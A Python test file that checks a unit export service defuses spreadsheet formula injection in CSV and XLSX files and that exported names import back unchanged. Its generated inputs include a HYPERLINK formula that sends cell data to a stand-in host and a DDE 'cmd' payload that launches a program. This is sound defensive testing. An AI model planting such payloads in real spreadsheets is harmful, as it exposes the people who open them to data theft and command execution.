"""Exports never carry a live formula, and what was exported imports back unchanged.

Names are generated: every formula lead (= + - @, tab, CR, LF, the full-width ＝ ＋ － ＠) with
leading spaces or not, in front of payloads that spreadsheets would run.
"""

from __future__ import annotations

import csv
import itertools
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from services import unit_files
from services.exports.cells import is_formula_like, safe_cell, unescape_cell
from services.text import clean_line

LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
PAYLOADS = ['HYPERLINK("http://x.example/?"&A1,"Bấm")', "1+cmd|' /C calc'!A0", "2+3",
            "SUM(1,2)", "=1", "+", "Bưu điện"]
SPACES = ["", " ", "   ", "\u00a0"]


def generated_names() -> list[str]:
    names = {clean_line(space + lead + payload, limit=200)
             for space, lead, payload in itertools.product(SPACES, LEADS, PAYLOADS)}
    names |= {"Bưu điện Hà Nội", "Cục Viễn thông – 2025", "a=b", "1-2", "'quoted"}
    return sorted(n for n in names if n)


def _units_csv(path: Path, names: list[str]) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["code", "name", "kind", "parent code", "fields"])
        for i, name in enumerate(names):
            # Written as a person would type them: the file itself carries the raw text.
            writer.writerow([f"U{i}", name, "co_quan", "", "buu_chinh"])


def test_a_tab_before_a_formula_is_cleaned_away_but_the_export_stays_safe() -> None:
    name = clean_line("\t=HYPERLINK(\"http://x\")", limit=200)
    assert name.startswith("=")  # the cleaner drops the tab someone used to defuse it …
    assert not is_formula_like(safe_cell(name))  # … and every export defuses it again
    assert unescape_cell(safe_cell(name)) == name


async def test_units_export_has_no_formulas_and_round_trips(session, tmp_path: Path) -> None:
    names = generated_names()
    assert sum(is_formula_like(n) for n in names) > 40
    source = tmp_path / "in.csv"
    _units_csv(source, names)
    report = await unit_files.import_units(session, source)
    assert report.ok, report.errors[:3]
    await session.flush()

    xlsx, csv_out = tmp_path / "out.xlsx", tmp_path / "out.csv"
    await unit_files.export_units(session, xlsx)
    await unit_files.export_units(session, csv_out)

    # XLSX: no cell is a formula (not in openpyxl's eyes, not in the sheet's XML), and each
    # cell shows exactly the name.
    book = load_workbook(xlsx)
    sheet = book.worksheets[0]
    shown = {}
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        shown[row[0].value] = row[1].value
        if is_formula_like(row[1].value):
            assert row[1].quotePrefix, row[1].value
    with zipfile.ZipFile(xlsx) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert shown == {f"U{i}": n for i, n in enumerate(names)}

    # CSV: no cell begins, after spaces, with a formula lead.
    with csv_out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), cell
    assert {r[0]: unescape_cell(r[1]) for r in rows[1:]} == shown

    # Both files import back with every name unchanged.
    for path in (xlsx, csv_out):
        again = await unit_files.import_units(session, path)
        assert again.ok and again.applied, again.errors[:3]
        assert again.created == [] and again.updated == [], path
